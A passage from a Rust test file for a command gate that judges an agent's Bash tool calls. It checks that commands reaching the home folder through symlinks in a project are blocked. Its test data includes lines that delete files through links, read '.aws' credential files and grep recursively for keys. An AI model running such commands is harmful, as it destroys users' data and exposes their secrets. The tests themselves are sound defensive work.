    "printf -v d 'build/%03d' 7; rm -rf \"$d\"",
    "d=$(printf '%.5s' buildings); rm -rf \"$d\"",
];

#[test]
fn everyday_idioms_are_allowed() {
    let stopped: Vec<&&str> = HARMLESS
        .iter()
        .filter(|it| verdict(it) != Verdict::Allow)
        .collect();
    assert!(stopped.is_empty(), "{stopped:#?}");
}

/// A project in which a link leads to the home folder, and another to a file there.
struct Linked;

impl Surroundings for Linked {
    fn ask(&self, question: &Question) -> Answer {
        if let Question::Resolve(path) = question {
            return Answer::Path(path.replace("/work/app/lnk", "/home/me"));
        }
        if let Question::Text(path, _) = question {
            return match path.rsplit('/').next() {
                Some("Makefile") => Answer::Text(b"all:\n\techo a\n".to_vec(), true),
                Some("package.json") => {
                    Answer::Text(br#"{"scripts":{"test":"echo a"}}"#.to_vec(), true)
                }
                Some(_) | None => Answer::Unknown,
            };
        }
        let Question::Links(pattern) = question else {
            return Answer::Unknown;
        };
        let led = match pattern.as_str() {
            "/work/app/*" => "/home/me/notes.txt",
            "/work/app/*/notes.txt" => "/home/me/notes.txt",
            "/work/app/*/.aws/cred*" => "/home/me/.aws/cred*",
            "/work/app/*/other/o.txt" | "/work/app/l?k/other/o.txt" => "/home/me/other/o.txt",
            "/work/app/deep/**" | "/work/app/**" => "/home/me/**",
            "/work/app/deep/*/up" | "/work/app/deep/*" => "/home/me",
            "/work/app/packages/*/package.json" => "/work/app/.shared/a/package.json",
            "/work/app/huge/**" => return Answer::No,
            _ => return Answer::Names(Vec::new()),
        };
        Answer::Names(vec![led.to_owned()])
    }
}

#[test]
fn patterns_and_trees_reach_where_links_lead() {
    let verdict = |line: &str| {
        let call = house::call("Bash", house::object(&[("command", line)]));
        Gate::new(Settings::default())
            .judge_in(&call, &Linked)
            .verdict
    };
    for line in [
        "rm -rf deep/*/up/notes.txt",
        "for d in deep/*; do rm -f \"$d\"/*.txt; done",
        "echo a | tee */notes.txt",
        "head -n 1 */.aws/cred*",
        "for f in *; do echo > \"$f\"; done",
        ". */other/o.txt",
        ". l?k/other/o.txt",
        "bash */other/o.txt",
        "grep -R KEY deep",
        "grep -R KEY",
        "grep -R KEY huge",
        "make -C lnk",
        "npm --prefix lnk test",
        "(cd lnk && make)",
    ] {
        assert_ne!(verdict(line), Verdict::Allow, "{line}");
    }
    for line in [
        "grep -r KEY deep",
        "grep -R TODO src",
        "cat */package.json",
        "cat packages/*/package.json",
        "tee build/*.log < a",
        "for f in src/*.ts; do echo > \"$f\"; done",
        "ls */notes.txt",
        "make -C sub",
        "npm --prefix sub test",
        "(cd sub && make)",
        "ls -la *",
        "rm -rf packages/*/dist",
    ] {
        assert_eq!(verdict(line), Verdict::Allow, "{line}");
    }
}
